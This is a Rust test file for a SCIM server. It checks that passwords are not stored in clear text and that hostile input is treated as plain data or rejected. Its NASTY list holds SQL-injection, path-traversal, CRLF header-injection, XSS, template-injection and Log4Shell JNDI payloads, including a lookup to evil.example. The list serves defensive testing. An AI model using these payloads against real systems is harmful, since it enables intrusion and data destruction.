//! RFC 7643 section 9: security.

use std::sync::Arc;

use scim_server::store::SqliteStore;

use crate::common::*;
use crate::custom;

#[tokio::test]
async fn r7643_9_01_passwords_are_not_stored_in_clear() {
    // Of an application's own schemas: hidden values other than a User's password are kept, by design, so what the
    // server itself promises is about passwords. Every way to write one is followed by a look at the files.
    let folder = tempfile::tempdir().unwrap();
    let secret = "Tr0ub4dor-and-3-and-more";
    let store = Arc::new(SqliteStore::open(folder.path().join("scim.db")).unwrap());
    let server = Server::over(store, |builder| builder);
    let body = |name: &str| json!({"schemas": [USER], "userName": name, "password": secret, "title": "kept-in-the-file"});
    let path = format!("/Users/{}", server.post("/Users", &body("ann")).await.expect(201).id());
    server.put(&path, &body("ann")).await.expect(200);
    for operation in [
        json!({"op": "add", "path": "password", "value": secret}),
        json!({"op": "replace", "path": "PASSWORD", "value": secret}),
        json!({"op": "replace", "value": {"password": secret}}),
        json!({"op": "add", "path": format!("{USER}:password"), "value": secret}),
        json!({"op": "replace", "value": {format!("{USER}:password"): secret}}),
        json!({"op": "replace", "value": {USER: {"password": secret}}}),
    ] {
        let answer = server.patch(&path, json!([operation])).await;
        assert_eq!(answer.status, 200, "{operation}: {answer:?}");
    }
    drop(server);
    let mut files = 0;
    let mut seen = false;
    for file in std::fs::read_dir(folder.path()).unwrap() {
        let bytes = std::fs::read(file.unwrap().path()).unwrap();
        let holds =
            |text: &str| bytes.windows(text.len()).any(|window| window.eq_ignore_ascii_case(text.as_bytes()));
        assert!(!holds(secret));
        seen |= holds("kept-in-the-file");
        files += 1;
    }
    assert!(files > 0 && seen, "this looks at what is stored");
}

const NASTY: [&str; 14] = [
    "'",
    "\"",
    "' OR '1'='1",
    "'; DROP TABLE resources; --",
    "\\\" or userName pr or title eq \\\"",
    "%27%20OR%201%3D1",
    "../../etc/passwd",
    "..%2f..%2fetc%2fpasswd",
    "%00",
    "%0d%0aX-Evil:%201",
    "<script>alert(1)</script>",
    "${jndi:ldap://evil.example/a}",
    "{{7*7}}",
    "\u{202e}\u{200b}",
];

#[tokio::test]
async fn r7643_9_02_nothing_that_comes_in_is_run() {
    for server in Server::all() {
        let ann = server.user(json!({"userName": "ann", "title": "Boss"})).await;
        for text in NASTY {
            let quoted = json!(text).to_string();
            let encoded = encode(text);
            // As a value in a filter it is a text like any other, and found only where it is stored.
            let filter = format!("title eq {quoted}");
            assert!(server.names(&filter).await.is_empty(), "{text}");
            let id = server
                .user(json!({"userName": format!("u-{}", encode(text)), "title": text, "externalId": text}))
                .await;
            assert_eq!(server.read("/Users", &id).await["title"], text);
            assert_eq!(server.filter("/Users", &filter).await.expect(200).strings("id"), [id.as_str()]);
            assert_eq!(
                server.filter("/Users", &format!("externalId sw {quoted}")).await.expect(200).strings("id"),
                [id.as_str()]
            );
            server.delete(&format!("/Users/{id}")).await.expect(204);
            // Anywhere else it is refused or ignored.
            for path in [
                format!("/Users/{encoded}"),
                format!("/Groups/{encoded}"),
                format!("/{encoded}"),
                format!("/Schemas/{encoded}"),
                format!("/ResourceTypes/{encoded}"),
            ] {
                let answer = server.get(&path).await;
                assert!(matches!(answer.status, 400 | 404), "{path}: {answer:?}");
                assert!(answer.headers.get("x-evil").is_none());
            }
            for query in ["filter", "count", "startIndex", "sortBy=userName&sortOrder", "cursor"] {
                let answer = server.get(&format!("/Users?{query}={encoded}")).await.expect(400);
                assert!(!answer.headers.contains_key("x-evil"), "{query}");
            }
            // Values that are looked up in a store by key, not by a filter.
            server.post("/Users", &json!({"schemas": [USER, text], "userName": "x", text: text})).await;
            let members = json!({"schemas": [GROUP], "displayName": text, "members": [{"value": text}]});
            let group = server.post("/Groups", &members).await;
            assert!(matches!(group.status, 201 | 400), "{group:?}");
            if group.status == 201 {
                assert_eq!(group.json()["displayName"], text);
                server.delete(&format!("/Groups/{}", group.id())).await.expect(204);
            }
            let bulk = json!({"schemas": ["urn:ietf:params:scim:api:messages:2.0:BulkRequest"], "Operations": [
                {"method": "DELETE", "path": format!("/Users/{text}")},
                {"method": "DELETE", "path": text, "version": text},
                {"method": "PUT", "path": format!("/Users/bulkId:{text}"), "data": {}},
            ]});
            let bulk = server.post("/Bulk", &bulk).await.expect(200).json();
            for operation in bulk["Operations"].as_array().unwrap() {
                let status = operation["status"].as_str().unwrap();
                assert!(["400", "404", "409", "412"].contains(&status), "{text}: {operation}");
            }
            for user in server.filter("/Users", "userName eq \"x\"").await.expect(200).strings("id") {
                server.delete(&format!("/Users/{user}")).await.expect(204);
            }
            for query in ["attributes", "excludedAttributes", "sortBy"] {
                let answer = server.get(&format!("/Users?{query}={encoded}")).await;
                assert!(matches!(answer.status, 200 | 400), "{query}: {answer:?}");
            }
            for path in [text.to_owned(), format!("emails[{text}]"), format!("title.{text}")] {
                let patch = json!([{"op": "replace", "path": path, "value": "x"}]);
                server.patch(&format!("/Users/{ann}"), patch).await.expect(400);
            }
            let sorted = json!({"schemas": [SEARCH], "sortBy": text, "attributes": [text]});
            let answer = server.post("/Users/.search", &sorted).await;
            assert!(matches!(answer.status, 200 | 400), "{answer:?}");
        }
        assert_eq!(server.names("userName pr").await, ["ann"]);
        assert_eq!(server.read("/Users", &ann).await["title"], "Boss");
    }
    // Raw, as no client library would send it.
    for server in custom::servers() {
        for path in [
            "/Assets/%",
            "/Assets/%zz",
            "/Assets/%ff%fe",
            "/Assets/a%00b",
            "/Assets?filter=%",
            "/Assets?filter=%ff",
        ] {
            let answer = server.get(path).await;
            assert!(matches!(answer.status, 400 | 404), "{path}: {answer:?}");
        }
    }
}
